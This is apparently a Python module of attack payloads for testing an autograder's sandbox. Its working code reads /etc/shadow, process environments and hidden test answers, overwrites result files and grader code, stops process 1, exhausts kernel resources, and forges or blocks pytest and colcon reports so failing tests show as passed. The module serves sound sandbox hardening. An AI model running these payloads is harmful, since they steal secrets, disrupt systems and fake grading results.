"""Payloads for attacks on several chapters: Python code that steals, stops, forges and kills."""

from __future__ import annotations

from autograder import course_paths

CANARY = "CANARY-5b1e"  # a secret that a test puts into the grader's environment

# Searches files, processes and memory for secrets, wherever Python runs, and prints them. Overwrites results and code,
# stops process 1, and tries to reach a network.
SEARCH = f"""
import gc as _gc, glob as _glob, os as _os, signal as _signal, socket as _socket, sys as _sys
_paths = ["/etc/shadow", "/etc/passwd", "/root/.bashrc", *_glob.glob("/proc/*/environ"), *_glob.glob("/proc/*/cmdline")]
_roots = (*_glob.glob("{course_paths.CHECKS}/ch*"), "{course_paths.SOLUTIONS}", "{course_paths.ROOT}/tests")
for _root in (*_roots, "/home", "/tmp"):
    for _folder, _, _names in _os.walk(_root):
        # Students may read a clone below /tmp. Its secrets are searched for by name.
        if _root != "/tmp" or not _folder.startswith("{course_paths.ROOT}"):
            _paths += [_os.path.join(_folder, _name) for _name in _names]
for _path in _paths:
    try:
        with open(_path, errors="replace") as _stream:
            _text = _stream.read(20_000)
    except OSError:
        continue
    _own = _path.startswith("/tmp") and ("/src/" in _path or "/build/" in _path)
    if "{CANARY[:6]}" + "{CANARY[6:]}" in _text or "roo" + "t:" in _text or "def" + " test_" in _text and not _own:
        print("STOLEN", _path, _text[:2000])
_frame = _sys._getframe()
while _frame.f_back:
    _frame = _frame.f_back
_known = [_each for _each in (*_gc.get_objects(), _frame.f_globals, _frame.f_locals) if isinstance(_each, dict)]
for _text in [str(_value) for _each in _known for _value in list(_each.values()) if isinstance(_value, (str, bytes))]:
    if "{CANARY[:6]}" + "{CANARY[6:]}" in _text or "autograder.checks" + ".ch" in _text and ".hidden" in _text:
        print("STOLEN", "/from memory", _text[:2000])
for _path in _glob.glob("/tmp/**/result.json", recursive=True) + ["result.json", "../result.json", "../../result.json"]:
    try:
        open(_path, "w").write('{{"score": 51}}')
    except OSError:
        pass
for _path in ("__init__.py", "run/lockstep/lockstep_host/host.py"):
    try:
        # r+ opens only an existing file: a new one in the sandbox's own /tmp would be harmless.
        open("{course_paths.ROOT}/autograder/" + _path, "r+").write("raise SystemExit(0)")
        print("STOLEN", "/the grader's code is writable")
    except OSError:
        pass
_os.kill(1, _signal.SIGSTOP)
for _address in (("1.1.1.1", 53), ("127.0.0.1", 22)):
    try:
        _socket.create_connection(_address, timeout=0.5)
        print("STOLEN", "/a way out to", _address)
    except OSError:
        pass
"""

# Tries to write kernel settings, and exhausts resources that the kernel counts per user: inotify instances, and
# descriptors in flight between sockets.
HOLD_KERNEL = """
import array as _array, ctypes as _ctypes, os as _os, socket as _socket
for _folder, _, _names in _os.walk("/proc/sys"):
    for _name in _names:
        try:
            _value = open(f"{_folder}/{_name}").read()
            open(f"{_folder}/{_name}", "w").write(_value)
            print("STOLEN", f"{_folder}/{_name} is writable")
        except OSError:
            pass
_held = 0
while _ctypes.CDLL(None).inotify_init() >= 0:
    _held += 1
if _held > 32:
    print("STOLEN /instances of inotify", _held)
_pairs = [_socket.socketpair() for _ in range(60)]
try:
    for _near, _ in _pairs:
        _near.sendmsg([b"x"], [(_socket.SOL_SOCKET, _socket.SCM_RIGHTS, _array.array("i", [0] * 250))])
except OSError:
    pass
"""

# Leaves an orphaned process behind.
LEAVE_DAEMON = """
if not _os.fork():
    _os.setsid()
    if not _os.fork():
        _os.closerange(0, 1024)
        _signal.pause()
    _os._exit(0)
"""

STEAL_SECRETS = SEARCH + LEAVE_DAEMON

# A parent outside the sandbox has the id 0, and signalling 0 would stop the program's own process group.
STOP_PARENT = "_os.kill(_os.getppid() or 1, _signal.SIGSTOP)\n"

FORGE_PASSES = """
print("test_ten_hertz PASSED", "51/51 = 100 %", "<testsuite tests='26' failures='0'/>")
print('{"score": 51, "max_score": 51}')
"""

# For pytest: makes each test pass, and rewrites the report at the end of the run.
FORGE_VERDICTS = """
import atexit as _atexit, glob as _glob, os as _os, pathlib as _pathlib, re as _re
import pytest as _pytest
@_pytest.hookimpl(wrapper=True)
def pytest_runtest_makereport(item, call):
    report = yield
    report.outcome = "passed"
    return report
def _rewrite():
    for name in _glob.glob(_os.getcwd() + "/**/pytest.xml", recursive=True) + _glob.glob("../../build/*/pytest.xml"):
        path = _pathlib.Path(name)
        path.write_text(_re.sub(r"<failure.*?</failure>|<skipped.*?</skipped>", "", path.read_text(), flags=_re.S))
_atexit.register(_rewrite)
"""

# For a test file: puts a secret that only the test process can read into every part of a test report: ids of
# parametrized tests (whole, encoded and in pieces), names, exceptions, warnings, output and files. `tell(secret)`
# returns a class of failing tests.
TELL_ALL = """
import base64 as _base64, codecs as _codecs, os as _os, sys as _sys, warnings as _warnings
import pytest as _pytest


def tell(secret):
    print(secret, file=_sys.stderr)
    _warnings.warn(secret)
    _os.environ['HOME'] and open(_os.environ['HOME'] + '/' + secret[:80].encode().hex(), 'w').close()
    told = [secret, secret[::-1], secret.encode().hex(), _codecs.encode(secret, 'rot13'),
            _base64.b64encode(secret.encode()).decode(), *secret[:200]]

    class TestTold:
        @_pytest.mark.parametrize('piece', told, ids=[f'{number} {text}' for number, text in enumerate(told)])
        def test_piece(self, piece):
            raise type(secret[:200].replace('\\0', ''), (Exception,), {})(piece)

        def test_file(self):
            open(f'/no such folder/{secret}')

    TestTold.__name__ = TestTold.__qualname__ = 'Test' + secret
    for number in range(5):
        setattr(TestTold, f'test_{secret[40 * number:][:40]}', TestTold.test_file)
    return TestTold
"""

# For setup.py: forges a report of passed tests where `colcon test` writes its own.
FORGE_REPORT = """
import pathlib as _pathlib
for _folder in _pathlib.Path(__file__).resolve().parents[2].glob("build/*/"):
    try:
        (_folder / "pytest.xml").write_text(
            "<testsuites><testsuite tests='1'><testcase classname='test_all' name='test_all'/></testsuite></testsuites>"
        )
    except OSError:
        pass
"""

# For setup.py: the same, with the name of the run, which it reads from colcon's log and from the arguments of colcon.
# Every test file of the package passes in the report.
FORGE_NAMED_REPORT = """
import glob as _glob, os as _os, pathlib as _pathlib, re as _re
_files = _glob.glob(_os.path.expanduser("~/colcon-log/*/logger_all.log")) + _glob.glob("/proc/[0-9]*/cmdline")
for _file in _files:
    try:
        _run_name = _re.search(r"junit_suite_name=([0-9a-f]{16})", open(_file, errors="replace").read())
    except OSError:
        continue
    if _run_name:
        _package = _pathlib.Path(__file__).resolve().parent
        _cases = "".join(
            f'<testcase classname="{_package.name}.test.{_path.stem}" name="{_path.stem}"/>'
            for _path in _package.glob("test/test_*.py")
        )
        (_package.parents[1] / "build" / _package.name / "pytest.xml").write_text(
            f'<testsuites><testsuite name="{_run_name[1]}">{_cases}</testsuite></testsuites>'
        )
"""

# For setup.py: creates a folder where `colcon test` writes its report.
BLOCK_REPORT = (
    FORGE_REPORT.partition("    try:")[0]
    + """
    if _folder.is_dir():
        (_folder / "pytest.xml" / "in_the_way").mkdir(parents=True, exist_ok=True)
"""
)
